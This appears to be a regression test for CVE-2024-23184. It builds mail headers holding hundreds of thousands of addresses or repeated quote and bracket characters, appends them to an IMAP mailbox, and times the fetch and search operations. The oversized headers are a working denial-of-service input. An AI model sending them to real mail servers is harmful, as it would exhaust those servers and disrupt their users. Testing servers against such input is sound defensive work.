# CVE-2024-23184: addresses without number.
WITHIN 60
EACH header To: ${seq:200000:a%@b, }c@d\r\n | ${rep:100000:To: a@b\r\n} | To: ${rep:200000:"} | To: ${rep:200000:(}\r\n | To: ${rep:200000:<}\r\n
+ imaps wang
> OK|NO \[ALREADY | CREATE I13
PUT I13 ${header}\r\nx
> OK | SELECT I13
CLOCK
> OK | FETCH * (ENVELOPE)
> OK | SEARCH TO nobody
> OK | FETCH * (BODYSTRUCTURE)
FAST 10
> OK | UNSELECT
> OK | DELETE I13
